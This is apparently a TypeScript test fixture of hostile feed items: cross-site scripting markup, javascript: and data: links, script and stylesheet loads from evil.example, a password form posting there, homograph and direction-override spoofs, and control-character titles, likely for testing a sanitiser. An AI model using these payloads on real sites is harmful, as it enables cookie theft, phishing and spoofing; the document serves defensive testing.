// What a hostile outlet may put into titles, addresses and texts. Each is one item of a feed; "ZN" marks its visible words.

export interface Payload {
  readonly name: string;
  readonly title?: string;
  readonly link?: string;
  /** HTML of the item. */
  readonly html?: string;
}

const script = "alert(document.cookie)";
const long = "خ".repeat(300); // one letter, three hundred times

/** Markup that would run, load, frame, style or send something. */
const markup: readonly string[] = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="&#97;lert(1)">`,
  `<svg onload=${script}></svg>`,
  `<svg><script href="data:text/javascript,${script}"/></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style></mglyph></table></mtext></math>`,
  `<style>@import url(https://evil.example/x.css);body{display:none}</style>`,
  `<p style="background:url(javascript:${script})">نص مزخرف</p>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/"><input name=password><button formaction="javascript:${script}">أرسل</button></form>`,
  `<a href="javascript:${script}">اضغط هنا</a>`,
  `<a href="&#106;avascript:${script}">اضغط هنا</a>`,
  `<a href="data:text/html,<script>${script}</script>">اضغط هنا</a>`,
  `<a href=" vbscript:msgbox(1)">اضغط هنا</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<video><source onerror=${script}></video>`,
  `<details open ontoggle=${script}>تفاصيل</details>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `</p></main></body></html><script>${script}</script>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${script}&amp;lt;/script&amp;gt;`,
  `\u003cscript\u003e${script}\u003c/script\u003e`,
  `<b><i><tg-spoiler><a href="tg://user?id=1">باسمك</a></tg-spoiler></i></b>`,
  `<code class="language-x"><pre></code></pre>`,
  `<textarea></textarea><title></title><plaintext>`,
];

/** Titles and addresses. */
const others: readonly Omit<Payload, "name">[] = [
  { title: `<script>${script}</script> عنوان` },
  { title: `عنوان "><img src=x onerror=${script}>` },
  { title: `&lt;b onmouseover=${script}&gt;عنوان` },
  { title: "عنوان \u202Egnp.exe \u2066\u2067 مقلوب" }, // direction overrides and isolates that are never closed
  { title: "عنوان&#0;\u0007\u001b[31m أحمر\r\nسطر" }, // control characters, a terminal's colour, a second line
  { title: long },
  { title: "ع̷̸̨̛͓̗".repeat(50) }, // marks upon marks
  { link: `javascript:${script}` },
  { link: `data:text/html,<script>${script}</script>` },
  { link: "https://еxаmple.org/a" }, // Cyrillic letters that look like Latin ones
  { link: "https://user:word@evil.example/a" },
  { link: `https://example.org/"><script>${script}</script>` },
  { link: "https://example.org/\u202Egnp.exe" },
  { link: "//evil.example/a" },
  { link: "http://127.0.0.1:1/admin" },
  { link: "tg://resolve?domain=evil" },
];

export const payloads: readonly Payload[] = [
  ...markup.map((html, index) => ({ name: `markup ${index + 1}`, html })),
  ...others.map((other, index) => ({ name: `title or address ${index + 1}`, ...other })),
];
